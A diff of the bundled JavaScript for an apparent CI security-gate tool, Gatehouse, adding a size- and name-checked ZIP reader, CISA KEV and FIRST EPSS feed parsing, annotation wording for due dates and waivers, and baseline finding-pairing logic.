@@ -41377,6 +41377,10 @@ const errorCodes = [
     'ARTIFACT_FAILED',
     'POLICY_CHANGED',
     'POLICY_UNREADABLE',
+    'BASE_MISSING',
+    'DATA_MISSING',
+    'DATA_STALE',
+    'DATA_INVALID',
     'INTERNAL',
 ];
 /** The one error of this program: a sentence a user can act on, thrown anywhere, caught at the edge. */
@@ -41416,7 +41420,7 @@ function toProblem(error) {
 
 // EXPORTS
 __nccwpck_require__.d(__webpack_exports__, {
-  archives: () => (/* binding */ archives),
+  m: () => (/* binding */ broken),
   A: () => (/* binding */ unpackTar)
 });
 
@@ -41426,10 +41430,6 @@ var external_node_crypto_ = __nccwpck_require__(77598);
 var external_node_fs_ = __nccwpck_require__(73024);
 // EXTERNAL MODULE: external "node:fs/promises"
 var promises_ = __nccwpck_require__(51455);
-// EXTERNAL MODULE: external "node:util"
-var external_node_util_ = __nccwpck_require__(57975);
-// EXTERNAL MODULE: external "node:zlib"
-var external_node_zlib_ = __nccwpck_require__(38522);
 // EXTERNAL MODULE: ./build/js/core/errors.js
 var errors = __nccwpck_require__(39429);
 // EXTERNAL MODULE: ./build/js/host/node/system-error.js
@@ -41499,8 +41499,6 @@ function readPaxPath(bytes) {
 }
 
 ;// CONCATENATED MODULE: ./build/js/host/node/files/archive.js
-
-
 
 
 
@@ -41625,23 +41623,6 @@ async function unpackTar(archive, decompress, unpacking) {
         decompress.destroy();
     }
 }
-/** Opens `tar.gz` archives with limits. Nothing is written but the wanted members, each to the place it was asked for. */
-const archives = {
-    compress: (text) => (0,external_node_util_.promisify)(external_node_zlib_.gzip)(text, { level: external_node_zlib_.constants.Z_BEST_COMPRESSION }),
-    extract: async (archive, wanted, maxBytes) => {
-        const names = Object.keys(wanted);
-        const found = await unpackTar(archive, (0,external_node_zlib_.createGunzip)(), {
-            maxBytes,
-            place: (name) => (Object.hasOwn(wanted, name) ? wanted[name] : undefined),
-            isEnough: ({ size }) => size === names.length,
-        });
-        const missing = names.find((name) => !found.has(name));
-        if (missing === undefined)
-            return Object.fromEntries(found);
-        await Promise.all([...found.keys()].map((name) => promises_.rm(wanted[name] ?? '', { force: true })));
-        throw broken(archive, `it holds no file ${missing}`);
-    },
-};
 
 
 /***/ }),
@@ -41684,6 +41665,115 @@ async function makeFolder(path) {
         await makeOne(path);
     }
 }
+
+
+/***/ }),
+
+/***/ 92265:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   W: () => (/* binding */ ZipError),
+/* harmony export */   u: () => (/* binding */ readZip)
+/* harmony export */ });
+/* harmony import */ var node_zlib__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(38522);
+
+/** The archive is broken, or not one that we made. */
+class ZipError extends Error {
+}
+const endSignature = 0x06054b50;
+const memberSignature = 0x02014b50;
+const localSignature = 0x04034b50;
+const endBytes = 22;
+const longestComment = 0xffff;
+/** Folders, links out of the folder and odd names are in no archive of ours. */
+const plainName = /^(?!\.{1,2}(?:\/|$))[^/\\\p{Cc}]{1,200}(?:\/(?!\.{1,2}(?:\/|$))[^/\\\p{Cc}]{1,200}){0,8}$/u;
+/**
+ * The files of a ZIP archive (APPNOTE 6.3: stored or deflated, not encrypted, without ZIP64) that somebody else may have made.
+ * @throws ZipError whose message completes "it ...".
+ */
+function readZip(archive, limits) {
+    try {
+        const members = membersOf(archive, limits);
+        return new Map(members.map((member) => [member.name, contentOf(member, archive)]));
+    }
+    catch (error) {
+        if (error instanceof RangeError)
+            throw new ZipError('ends too early');
+        throw error;
+    }
+}
+function membersOf(archive, limits) {
+    const end = findEnd(archive);
+    const count = archive.readUInt16LE(end + 10);
+    if (count > limits.members)
+        throw new ZipError(`holds ${count} files, more than ${limits.members}`);
+    const members = [];
+    let at = archive.readUInt32LE(end + 16);
+    for (let index = 0; index < count; index += 1) {
+        const { member, next } = readMember(archive, at);
+        if (!member.name.endsWith('/'))
+            members.push(checked(member));
+        at = next;
+    }
+    if (new Set(members.map(({ name }) => name)).size < members.length)
+        throw new ZipError('holds two files of one name');
+    const size = members.reduce((sum, member) => sum + member.size, 0);
+    if (size > limits.bytes)
+        throw new ZipError(`holds ${size} bytes, more than ${limits.bytes}`);
+    return members;
+}
+function findEnd(archive) {
+    const first = Math.max(0, archive.length - endBytes - longestComment);
+    for (let at = archive.length - endBytes; at >= first; at -= 1) {
+        if (archive.readUInt32LE(at) === endSignature)
+            return at;
+    }
+    throw new ZipError('is no ZIP archive, or was cut');
+}
+function readMember(archive, at) {
+    if (archive.readUInt32LE(at) !== memberSignature)
+        throw new ZipError('has a broken list of files');
+    if ((archive.readUInt16LE(at + 8) & 1) === 1)
+        throw new ZipError('is encrypted');
+    const nameEnd = at + 46 + archive.readUInt16LE(at + 28);
+    const member = {
+        name: archive.toString('utf8', at + 46, nameEnd),
+        method: archive.readUInt16LE(at + 10),
+        crc: archive.readUInt32LE(at + 16),
+        packed: archive.readUInt32LE(at + 20),
+        size: archive.readUInt32LE(at + 24),
+        at: archive.readUInt32LE(at + 42),
+    };
+    return { member, next: nameEnd + archive.readUInt16LE(at + 30) + archive.readUInt16LE(at + 32) };
+}
+function checked(member) {
+    if (!plainName.test(member.name))
+        throw new ZipError('holds a file whose name is not plain');
+    if (member.method !== 0 && member.method !== 8)
+        throw new ZipError(`is packed by method ${member.method}`);
+    return member;
+}
+function contentOf(member, archive) {
+    if (archive.readUInt32LE(member.at) !== localSignature)
+        throw new ZipError('has a file where none is');
+    const start = member.at + 30 + archive.readUInt16LE(member.at + 26) + archive.readUInt16LE(member.at + 28);
+    const packed = archive.subarray(start, start + member.packed);
+    const content = member.method === 0 ? packed : inflate(packed, member);
+    if (content.length !== member.size || (0,node_zlib__WEBPACK_IMPORTED_MODULE_0__.crc32)(content) !== member.crc)
+        throw damaged(member);
+    return content;
+}
+/** Nothing grows beyond the size that counted against the limit. */
+function inflate(packed, member) {
+    try {
+        return (0,node_zlib__WEBPACK_IMPORTED_MODULE_0__.inflateRawSync)(packed, { maxOutputLength: Math.max(1, member.size) });
+    }
+    catch {
+        throw damaged(member);
+    }
+}
+const damaged = ({ name }) => new ZipError(`holds a damaged file: ${name}`);
 
 
 /***/ }),
@@ -45287,19 +45377,6 @@ const gapSentences = {
 const ownAdvice = {
     secret: 'Revoke it first, then take it out of the file and of the history.',
 };
-const waiverSentences = {
-    expired: 'expired',
-    'in-grace': 'expired and counts for a few days more',
-    expiring: 'expires',
-    unused: 'fits no finding',
-};
-/** `Waiver W-1 expires on 2026-12-01.` */
-function waiverInWords(note) {
-    const day = note.expires === undefined || note.state === 'unused' ? '' : onOneLine(note.expires, 20);
-    const words = waiverSentences[note.state];
-    const what = day === '' ? words : words.replace(/^(expire[ds])/, `$1 on ${day}`);
-    return `Waiver ${escape_inFull(note.waiver)} ${what}.`;
-}
 
 ;// CONCATENATED MODULE: ./build/js/report/presented.js
 
@@ -45371,7 +45448,7 @@ const plainPath = /^[\w.@/][\w.@/+=-]*$/;
 /** Does on a laptop what this run did. A folder whose name a shell would read otherwise is left out. */
 const scanCommand = ({ prefix = '' }) => plainPath.test(prefix) ? `gatehouse scan ${prefix}` : 'gatehouse scan';
 
-;// CONCATENATED MODULE: ./build/js/report/words/fixing-version.js
+;// CONCATENATED MODULE: ./build/js/report/words/finding/fixing-version.js
 /** Only plain numbers with dots are compared; what an ecosystem makes of anything else is its own affair. */
 const plain = /^v?\d{1,9}(?:\.\d{1,9}){0,5}$/;
 /**
@@ -45415,7 +45492,7 @@ function isRepaired(version, fixed) {
 /** `3.2` of `3.2.14`: everything but the last number. */
 const branchOf = ({ numbers }) => numbers.slice(0, -1).join('.');
 
-;// CONCATENATED MODULE: ./build/js/report/words/describe.js
+;// CONCATENATED MODULE: ./build/js/report/words/finding/describe.js
 
 
 
@@ -45457,13 +45534,28 @@ function titleInWords({ rule, advisory }) {
 /** The policy's reason, else what the tool said beyond the title, else nothing. */
 function reasonInWords({ finding, why }) {
     const said = why ?? (sameWords(finding.message, finding.rule.title) ? '' : finding.message);
-    const text = `${onOneLine(said)}${exploitedInWords(finding)}`.trim();
+    const news = `${exploitedInWords(finding)}${likelihoodInWords(finding)}`;
+    const text = `${endOf(onOneLine(said), news)}${news}`.trim();
     return text === '' ? undefined : text;
 }
+/** What a sentence follows is ended itself. */
+const endOf = (said, next) => (said === '' || next === '' ? said : endSentence(said));
 /** Empty unless it is known; otherwise a sentence with a space before it. */
 function exploitedInWords({ advisory }) {
     const kev = advisory?.kev;
-    return kev === undefined ? '' : ` Known to be exploited (KEV, ${onOneLine(kev.added, 20)}).`;
+    if (kev === undefined)
+        return '';
+    const due = kev.due === undefined ? '' : `, due ${onOneLine(kev.due, 20)}`;
+    return ` Known to be exploited since ${onOneLine(kev.added, 20)}${due} (CISA KEV).`;
+}
+/** From here on it is worth a word beside the finding: a hundred times what is usual. */
+const likely = 0.1;
+/** Empty where exploitation is unlikely or nobody knows; otherwise a sentence with a space before it. */
+function likelihoodInWords({ advisory }) {
+    const epss = advisory?.epss;
+    if (epss === undefined || epss < likely)
+        return '';
+    return ` Probability of exploitation within 30 days: ${(epss * 100).toFixed(0)} % (EPSS).`;
 }
 const sameWords = (a, b) => a === b || describe_plain(a) === describe_plain(b);
 const describe_plain = (text) => text.toLowerCase().replace(/^[ -~]*$/.test(text) ? /[^a-z\d]+/g : /[^\p{L}\p{N}]+/gu, '');
@@ -45521,6 +45613,56 @@ const skipWords = {
     sarif: 'suppressed in SARIF',
 };
 
+;// CONCATENATED MODULE: ./build/js/report/words/times.js
+
+
+/** What will change about a decision, and when; `today` is the day of the verdict. A sentence each. */
+function timesInWords(judged, { judged: today }) {
+    const { blocksFrom, due, waivedAfterMerge } = judged;
+    return [
+        ...(due === undefined ? [] : [dueInWords(due, today)]),
+        ...(blocksFrom === undefined || blocksFrom === due ? [] : [effectiveInWords(blocksFrom, today)]),
+        ...(waivedAfterMerge === undefined
+            ? []
+            : [
+                `Waiver ${escape_inFull(waivedAfterMerge)} in this change lets it through once it is merged; it does not count for the change that brings it. ` +
+                    "Have the waiver reviewed and merged first, or ask for the owner's approval to merge.",
+            ]),
+    ];
+}
+const effectiveInWords = (day, today) => `Warns now, and blocks from ${onOneLine(day, 20)} on (${inDays(day, today)}).`;
+/** The last day on which it may still be there. */
+const dueInWords = (due, today) => daysUntil(due, today) < 0
+    ? `Overdue since ${onOneLine(due, 20)} (${counted(-daysUntil(due, today), 'day')}).`
+    : `To be mended by ${onOneLine(due, 20)} (${inDays(due, today)}).`;
+const inDays = (day, today) => {
+    const days = daysUntil(day, today);
+    return days === 0 ? 'today' : `in ${counted(days, 'day')}`;
+};
+const daysUntil = (day, today) => Math.round((Date.parse(day) - Date.parse(today)) / 86_400_000);
+/** `Waiver W-1 expires on 2026-12-01 (in 7 days).` */
+function waiverInWords(note, { judged: today }) {
+    const why = note.sentence === undefined ? '' : ` ${endSentence(onOneLine(note.sentence))}`;
+    return `Waiver ${escape_inFull(note.waiver)} ${stateInWords(note, today)}.${why}`;
+}
+function stateInWords({ state, expires }, today) {
+    const day = expires === undefined ? '' : ` on ${onOneLine(expires, 20)}`;
+    switch (state) {
+        case 'expired':
+            return `expired${day}, and lets nothing through any more`;
+        case 'in-grace':
+            return `expired${day} and counts for a few days more: renew it, or mend what it lets through`;
+        case 'expiring':
+            return expires === undefined ? 'expires' : `expires${day} (${inDays(expires, today)})`;
+        case 'unused':
+            return 'fits no finding: it can go';
+        case 'over-broad':
+            return 'lets many findings through: make its `match` narrower';
+        case 'refused':
+            return 'does not count';
+    }
+}
+
 ;// CONCATENATED MODULE: ./build/js/report/annotations.js
 
 
@@ -45529,8 +45671,9 @@ const skipWords = {
 
 
 
-/** Waived findings are no news to anybody. */
-const types = { block: 'error', warn: 'warning', note: 'notice' };
+
+/** Beside the code stands what somebody should act on: not what is noted, which what is older is too, nor what is waived. */
+const types = { block: 'error', warn: 'warning' };
 /** Mistakes that a change brings into the policy files: they never become alerts, so this is the only place beside the line. */
 const mistakeAnnotations = ({ policy: { broken = [] } }) => broken.slice(0, githubLimits.annotationsOfType).map(({ path, line, sentence, hint = '' }) => ({
     type: 'error',
@@ -45542,36 +45685,38 @@ const mistakeAnnotations = ({ policy: { broken = [] } }) => broken.slice(0, gith
 }));
 /** At most ten of each type, as many as a runner shows for a step: mistakes in policy files, then findings, the worst first. */
 function annotationsOf(verdict) {
-    const { blocking, warnings, noted } = verdict;
-    const lists = [blocking, warnings, noted].map((list) => sortedByDecision(list));
+    const { blocking, warnings } = verdict;
+    const lists = [blocking, warnings].map((list) => sortedByDecision(list));
     const most = githubLimits.annotationsOfType;
     const mistakes = mistakeAnnotations(verdict);
-    const rooms = [most - mistakes.length, most, most];
+    const rooms = [most - mistakes.length, most];
     return {
         annotations: [
             ...mistakes,
-            ...lists.flatMap((list, index) => list.slice(0, rooms[index]).flatMap((judged) => annotationOf(judged, verdict.subject))),
+            ...lists.flatMap((list, index) => list.slice(0, rooms[index]).flatMap((judged) => annotationOf(judged, verdict))),
         ],
         leftOut: leftOut('beyond-limit', lists.flatMap((list, index) => list.slice(rooms[index]).map(({ id }) => id))),
     };
 }
-function annotationOf(judged, subject) {
+function annotationOf(judged, verdict) {
     const { finding, action } = judged;
-    if (action === 'waive')
+    const type = types[action];
+    if (type === undefined)
         return [];
     const { region } = finding.place;
-    const path = inRepository(finding.place.path, subject);
+    const path = inRepository(finding.place.path, verdict.subject);
     const advice = adviceInWords(judged);
     const sentences = [
         nameInWords(finding),
         reasonInWords(judged),
+        ...timesInWords(judged, verdict),
         advice.text === undefined ? undefined : `Fix: ${advice.text}`,
         `Found by ${sourcesInWords(finding)}; Gatehouse id ${judged.id}.`,
     ];
     const message = sentences.flatMap((text) => (text === undefined || text === '' ? [] : [endSentence(text)])).join(' ');
     return [
         {
-            type: types[action],
+            type,
             title: onOneLine(`${finding.severity}: ${titleInWords(finding)}`, 200),
             message: onOneLine(message, githubLimits.annotationMessage),
             ...(forTerminal(path) === path ? { path } : {}),
@@ -45820,6 +45965,7 @@ function show(value) {
         return 'a map';
     return typeof value === 'string' ? `"${quotable(value, /[\p{C}"]/gu)}"` : String(value);
 }
+const capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
 
 ;// CONCATENATED MODULE: ./build/js/core/codec/decode.js
 
@@ -45847,7 +45993,7 @@ function parseJson(text, whole) {
         return JSON.parse(text);
     }
     catch (cause) {
-        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `${capital(whole)} is not JSON, or not all of it is there.`, {
+        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `${decode_capital(whole)} is not JSON, or not all of it is there.`, {
             hint: 'Scan again, and give the file as it was written.',
             cause,
         });
@@ -45861,13 +46007,13 @@ function describe(issue, root, whole) {
         case 'invalid_type':
             if (value === undefined)
                 return `${name} is missing in ${whole}.`;
-            return `${capital(name)} must be ${typeNames[issue.expected] ?? issue.expected}, not ${show(value)}.`;
+            return `${decode_capital(name)} must be ${typeNames[issue.expected] ?? issue.expected}, not ${show(value)}.`;
         case 'invalid_value':
             if (value === undefined)
                 return `${name} is missing in ${whole}.`;
-            return `${capital(name)} must be ${alternatives(issue.values.map(String))}, not ${show(value)}.`;
+            return `${decode_capital(name)} must be ${alternatives(issue.values.map(String))}, not ${show(value)}.`;
         default:
-            return `${capital(name)} cannot be ${show(value)}.`;
+            return `${decode_capital(name)} cannot be ${show(value)}.`;
     }
 }
 const typeNames = {
@@ -45879,11 +46025,11 @@ const typeNames = {
     object: 'a map of keys and values',
     record: 'a map of keys and values',
 };
-const unsound = (whole) => `${capital(whole)} cannot be understood.`;
+const unsound = (whole) => `${decode_capital(whole)} cannot be understood.`;
 const nameOf = (path, whole) => path.length === 0 ? whole : code(pathText(path));
 const pathText = (path) => path.reduce((before, step) => typeof step === 'number' ? `${before}[${step}]` : before === '' ? String(step) : `${before}.${String(step)}`, '');
 const valueAt = (root, path) => path.reduce((inner, step) => typeof inner === 'object' && inner !== null && Object.hasOwn(inner, step) ? Reflect.get(inner, step) : undefined, root);
-const capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
+const decode_capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
 
 ;// CONCATENATED MODULE: ./node_modules/zod/v4/core/util.js
 
@@ -54929,7 +55075,7 @@ function partialRecord(keyType, valueType, params) {
         type: "record",
         keyType,
         valueType: valueType,
-        ...util.normalizeParams(params),
+        ...normalizeParams(params),
         partial: true,
     });
 }
@@ -55490,6 +55636,8 @@ const gapReasons = [
 const keepsUnread = (gap) => gap.reason === 'not-parsed' || gap.reason === 'not-read' || gap.reason === 'crashed-tool';
 /** Why data is not known to be the newest: the user chose it, nobody could be asked, or whoever was asked did not give any. */
 const noticeKinds = ['given', 'offline', 'unavailable'];
+/** Where the findings of the base come from: the head, since the scanner reads the same files in both; a scan; evidence of the default branch. */
+const baseOrigins = ['head', 'scan', 'artifact'];
 
 ;// CONCATENATED MODULE: ./build/js/core/codec/exactly.js
 /** Returns the schema as it is; compiles only when what it decodes to is exactly `T`, key for key. */
@@ -55654,6 +55802,15 @@ const subjectSchema = exactly()(strictObject({
     prefix: evidence_schema_text.exactOptional().describe('From the root of the repository to the root of the run.'),
     scope: evidence_schema_text.exactOptional().describe('Tells this run from another of the same repository.'),
 }));
+const baseRun = exactly()(strictObject({ scanner: evidence_schema_text, from: schemas_enum(baseOrigins), findings: array(findingSchema) }));
+const base = exactly()(strictObject({
+    commit: evidence_schema_text.exactOptional(),
+    runs: array(baseRun),
+    problems: array(problemSchema),
+    touched: array(evidence_schema_text).describe('Files that are not the same in both.'),
+    gone: array(evidence_schema_text).exactOptional().describe('Files that only the base holds.'),
+})
+    .meta({ id: 'base', description: 'What a change is compared with.' }));
 const evidenceFileSchema = exactly()(strictObject({
     schema: literal(1),
     subject: subjectSchema,
@@ -55665,6 +55822,7 @@ const evidenceFileSchema = exactly()(strictObject({
         skips: array(inlineSkipSchema),
     }),
     head: array(evidence),
+    base: base.exactOptional(),
     timings: record(evidence_schema_text, schemas_number()).describe('Milliseconds; the only key that may differ between two equal runs.'),
 }));
 
@@ -55820,6 +55978,178 @@ function findSet(lock, name) {
     const { version, start } = locked;
     return { name, version, digest, text, ...(start === undefined ? {} : { start }) };
 }
+
+;// CONCATENATED MODULE: ./build/js/core/enrich/feed-file.js
+
+
+/** Ten times what there is. */
+const mostEntries = 3_000_000;
+const cveSchema = schemas_string().regex(/^CVE-\d{4}-\d{4,19}$/);
+const isDay = (text) => /^\d{4}-\d{2}-\d{2}$/.test(text) && instantOf(text)?.slice(0, 10) === text;
+const daySchema = schemas_string().refine(isDay);
+/** The instant as ISO 8601 in UTC; nothing for what is no instant. */
+function instantOf(text) {
+    const time = /^\d{4}-\d{2}-\d{2}/.test(text) ? Date.parse(text) : Number.NaN;
+    return Number.isNaN(time) ? undefined : new Date(time).toISOString();
+}
+const sources = {
+    kev: "Give CISA's catalogue (known_exploited_vulnerabilities.json) as it is published.",
+    epss: "Give FIRST's file (epss_scores-YYYY-MM-DD.csv or .csv.gz) as it is published, or an answer of its API with every row in it.",
+};
+/** `wrong` completes the sentence "FILE ...". */
+const invalidFeed = (feed, { name }, wrong) => new errors/* GatehouseError */.GA('DATA_INVALID', `The file ${name} for ${feed.toUpperCase()} ${wrong}.`, { hint: sources[feed] });
+/** @throws GatehouseError DATA_INVALID for what is not JSON or not what the schema says, with the place of the first mistake. */
+function decodeFeed(feed, file, schema) {
+    const result = schema.safeParse(feed_file_parseJson(feed, file));
+    if (result.success)
+        return result.data;
+    const path = result.error.issues[0]?.path.map(String).join('.').slice(0, 80) ?? '';
+    throw invalidFeed(feed, file, path === '' ? 'is not in a format that is known' : `is not sound at \`${path}\``);
+}
+function feed_file_parseJson(feed, file) {
+    try {
+        return JSON.parse(file.text);
+    }
+    catch {
+        throw invalidFeed(feed, file, 'is not JSON, or not all of it is there');
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/core/enrich/read-epss.js
+
+
+/**
+ * Reads FIRST's scores: the daily CSV with its first line, or an answer of the API. A part of them is refused, because what is not in it
+ * would count as not likely.
+ * @throws GatehouseError DATA_INVALID
+ */
+const readEpss = (file) => file.text.trimStart().startsWith('{') ? readAnswer(file) : readCsv(file);
+const isProbability = (text) => /^\d(?:\.\d{1,20})?(?:e-\d{1,2})?$/i.test(text) && Number(text) <= 1;
+const answerSchema = object({
+    total: schemas_int(),
+    data: array(object({ cve: cveSchema, epss: schemas_string().refine(isProbability), date: daySchema }))
+        .min(1)
+        .max(mostEntries),
+});
+function readAnswer(file) {
+    const { total, data } = decodeFeed('epss', file, answerSchema);
+    if (total !== data.length)
+        throw invalidFeed('epss', file, `holds ${data.length} of ${total} rows: an answer of the API comes in pages`);
+    const oldest = data.map(({ date }) => date).sort()[0] ?? '';
+    return feedOf(file, oldest, data.map(({ cve, epss }) => [cve, Number(epss)]));
+}
+/** `#model_version:v2025.03.14,score_date:2026-11-27T00:00:00+0000`, then the names of the columns. */
+function readCsv(file) {
+    const [about = '', header = '', ...lines] = file.text.split(/\r?\n/);
+    const date = /^#(?:.*,)?score_date:([^,]{10,40})/.exec(about)?.[1];
+    if (date === undefined || instantOf(date) === undefined)
+        throw invalidFeed('epss', file, 'does not say in its first line of which day it is');
+    if (!/^cve,epss,percentile(?:,|$)/.test(header))
+        throw invalidFeed('epss', file, 'has other columns than `cve,epss,percentile`');
+    if (lines.length > mostEntries)
+        throw invalidFeed('epss', file, `has more than ${mostEntries} lines`);
+    if (lines.at(-1) !== '')
+        throw invalidFeed('epss', file, 'ends within a line: not all of it is there');
+    const rows = lines.slice(0, -1).map((line, index) => {
+        const [cve = '', epss = '', ...others] = line.split(',');
+        if (others.length > 0 && cveSchema.safeParse(cve).success && isProbability(epss))
+            return [cve, Number(epss)];
+        throw invalidFeed('epss', file, `has something else than a CVE and its probability in line ${index + 3}`);
+    });
+    if (rows.length === 0)
+        throw invalidFeed('epss', file, 'holds no row');
+    return feedOf(file, date, rows);
+}
+const feedOf = ({ digest }, date, rows) => ({
+    data: { name: 'epss', digest, updated: instantOf(date) ?? date },
+    entries: new Map(rows),
+});
+
+;// CONCATENATED MODULE: ./build/js/core/enrich/read-kev.js
+
+
+/** CISA's own format; keys that tell more about an entry are passed over. */
+const catalogueSchema = object({
+    dateReleased: schemas_string().refine((text) => instantOf(text) !== undefined),
+    count: schemas_int(),
+    vulnerabilities: array(object({ cveID: cveSchema, dateAdded: daySchema, dueDate: daySchema.optional() }))
+        .max(mostEntries),
+});
+/** The same without words, by CVE. */
+const compactSchema = object({
+    about: object({ date: daySchema, count: schemas_int() }),
+    cves: record(cveSchema, object({ added: daySchema, due: daySchema.optional() })),
+});
+/**
+ * Reads a catalogue of vulnerabilities that are known to be exploited. One that holds another number of entries than it says is refused,
+ * because what is not in it would count as not exploited.
+ * @throws GatehouseError DATA_INVALID
+ */
+function readKev(file) {
+    const { updated, count, rows } = rowsOf(decodeFeed('kev', file, union([catalogueSchema, compactSchema])));
+    const entries = new Map(rows);
+    if (entries.size !== count || count === 0)
+        throw invalidFeed('kev', file, `says that it holds ${count} entries and holds ${entries.size}`);
+    return { data: { name: 'kev', digest: file.digest, updated }, entries };
+}
+function rowsOf(found) {
+    if ('cves' in found) {
+        const rows = Object.entries(found.cves).map(([id, { added, due }]) => [id, knownSince(added, due)]);
+        return { updated: `${found.about.date}T00:00:00.000Z`, count: found.about.count, rows };
+    }
+    const { dateReleased, count, vulnerabilities } = found;
+    return {
+        updated: instantOf(dateReleased) ?? dateReleased,
+        count,
+        rows: vulnerabilities.map(({ cveID, dateAdded, dueDate }) => [cveID, knownSince(dateAdded, dueDate)]),
+    };
+}
+const knownSince = (added, due) => ({
+    added,
+    ...(due === undefined ? {} : { due }),
+});
+
+;// CONCATENATED MODULE: ./build/js/flow/feeds/open-feeds.js
+
+
+
+
+/** Several times what is published; whoever writes more wants this process to run out of memory. */
+const mostBytes = 128 * 2 ** 20;
+/**
+ * The feeds of a run: the files that were given, and for KEV the copy of this release where none was. EPSS is new every day and a release
+ * carries none. Open them before anything runs, so that a wrong file ends nothing half done.
+ * @throws GatehouseError DATA_INVALID
+ */
+async function openFeeds({ kev, epss }, ports) {
+    return {
+        kev: kev === undefined ? await bundled() : readKev(await readFile('kev', kev, ports)),
+        ...(epss === undefined ? {} : { epss: readEpss(await readFile('epss', epss, ports)) }),
+    };
+}
+/** Loaded when something is judged, and no earlier. */
+async function bundled() {
+    const { bundledKnownExploited } = await __nccwpck_require__.e(/* import() */ 281).then(__nccwpck_require__.bind(__nccwpck_require__, 33281));
+    return bundledKnownExploited();
+}
+async function readFile(feed, path, { files, archives }) {
+    const stat = await files.stat(path);
+    if (stat?.type === undefined)
+        throw invalidFeed(feed, { name: path }, 'is not there');
+    if (stat.size > mostBytes)
+        throw invalidFeed(feed, { name: path }, `has more than ${mostBytes} bytes`);
+    const bytes = await files.read(path).catch(() => {
+        throw invalidFeed(feed, { name: path }, 'cannot be read');
+    });
+    const plain = isPacked(bytes)
+        ? await archives.decompress(bytes, mostBytes).catch(() => {
+            throw invalidFeed(feed, { name: path }, `cannot be unpacked, or holds more than ${mostBytes} bytes`);
+        })
+        : bytes;
+    return { text: new TextDecoder().decode(plain), digest: `sha256:${sha256Hex(bytes)}`, name: path };
+}
+/** The two bytes that every gzip file begins with. */
+const isPacked = (bytes) => bytes[0] === 0x1f && bytes[1] === 0x8b;
 
 ;// CONCATENATED MODULE: ./build/js/core/identity.js
 
@@ -56120,7 +56450,7 @@ const joinMisconfigurations = (findings) => [...groupBy(findings, controlOf).val
 const secret_comparePosition = (a, b) => compareAll(a[0] - b[0], a[1] - b[1] || 0);
 const startOf = ({ place: { region } }) => [region?.startLine ?? 0, region?.startColumn ?? 1];
 /** After its last character; an empty span is taken for one character. */
-const endOf = (finding) => {
+const secret_endOf = (finding) => {
     const { region } = finding.place;
     const [startLine, startColumn] = startOf(finding);
     const [line, column] = [region?.endLine ?? startLine, region?.endColumn ?? Number.POSITIVE_INFINITY];
@@ -56141,8 +56471,8 @@ function groupOverlapping(findings) {
             last.push(finding);
         else
             groups.push([finding]);
-        if (secret_comparePosition(endOf(finding), end) > 0)
-            end = endOf(finding);
+        if (secret_comparePosition(secret_endOf(finding), end) > 0)
+            end = secret_endOf(finding);
     }
     return groups;
 }
@@ -56217,26 +56547,430 @@ function joinKind(findings) {
     }
 }
 
-;// CONCATENATED MODULE: ./build/js/core/verdict.js
-const verdicts = ['pass', 'warn', 'block', 'error'];
-const modes = ['audit', 'enforce'];
-const actions = ['block', 'warn', 'note', 'waive'];
-const layerNames = ['organisation', 'repository', 'default'];
-/** All judged findings, worst action first. */
-const allJudged = (verdict) => [
-    ...verdict.blocking,
-    ...verdict.warnings,
-    ...verdict.noted,
-    ...verdict.waived,
+;// CONCATENATED MODULE: ./build/js/core/baseline/sides.js
+
+/** As many as there are. */
+const asManyAsThereAre = Math.min;
+/** One thing became one other; anything else is ambiguous. */
+const onlyOneToOne = (heads, bases) => (heads === 1 && bases === 1 ? 1 : 0);
+/** All that are there had their like before; where there are more now, nobody can tell which are new. */
+const noneMore = (heads, bases) => (heads <= bases ? heads : 0);
+/** Pairs what has the same key, and leaves the rest. What has no key is left. */
+function pairBy(sides, keyOf, pairing) {
+    const bases = keyed(sides.base, keyOf);
+    const twins = new Map(sides.twins);
+    const taken = new Set();
+    for (const [key, group] of keyed(sides.head, keyOf)) {
+        const others = inFileOrder(bases.get(key) ?? []);
+        const count = pairing(group.length, others.length);
+        for (const [index, one] of inFileOrder(group).slice(0, count).entries()) {
+            const twin = others[index];
+            if (twin === undefined)
+                continue;
+            twins.set(one, twin);
+            taken.add(twin);
+        }
+    }
+    return {
+        head: sides.head.filter((one) => !twins.has(one)),
+        base: sides.base.filter((one) => !taken.has(one)),
+        twins,
+    };
+}
+function keyed(findings, keyOf) {
+    const groups = new Map();
+    for (const finding of findings) {
+        const key = keyOf(finding);
+        if (key === undefined)
+            continue;
+        const group = groups.get(key);
+        if (group === undefined)
+            groups.set(key, [finding]);
+        else
+            group.push(finding);
+    }
+    return groups;
+}
+const inFileOrder = (findings) => findings.length < 2
+    ? findings
+    : [...findings].sort((a, b) => compareAll(order_compareText(a.place.path, b.place.path), (a.place.region?.startLine ?? 0) - (b.place.region?.startLine ?? 0), (a.place.region?.startColumn ?? 0) - (b.place.region?.startColumn ?? 0)));
+
+;// CONCATENATED MODULE: ./build/js/core/baseline/identity-pairs.js
+
+/**
+ * Pairs findings of one identity: any of its hashes meets, also by way of a third finding, so that a concept or an alias that is new does
+ * not make old findings new. Several of one identity (two `ingress` blocks) are told apart by their block, then by their order in the file.
+ */
+function pairSame(sides) {
+    const nameOf = namesOf([...sides.head, ...sides.base]);
+    const withBlock = (finding) => {
+        const digest = finding.place.block?.digest;
+        return digest === undefined ? undefined : `${nameOf(finding)} ${digest}`;
+    };
+    return pairBy(pairBy(sides, withBlock, asManyAsThereAre), nameOf, asManyAsThereAre);
+}
+/** One name for all findings whose identities are linked (disjoint sets over the hashes). */
+function namesOf(findings) {
+    const above = new Map();
+    const rootOf = (hash) => {
+        let root = hash;
+        for (let next = above.get(root); next !== undefined && next !== root; next = above.get(root))
+            root = next;
+        for (let at = hash; at !== root;) {
+            const next = above.get(at) ?? root;
+            above.set(at, root);
+            at = next;
+        }
+        return root;
+    };
+    for (const { identity } of findings) {
+        const root = rootOf(identity.logical);
+        for (const hash of identity.also) {
+            const other = rootOf(hash);
+            if (other !== root)
+                above.set(other, root);
+        }
+    }
+    return ({ identity }) => rootOf(identity.logical);
+}
+
+;// CONCATENATED MODULE: ./build/js/core/baseline/units.js
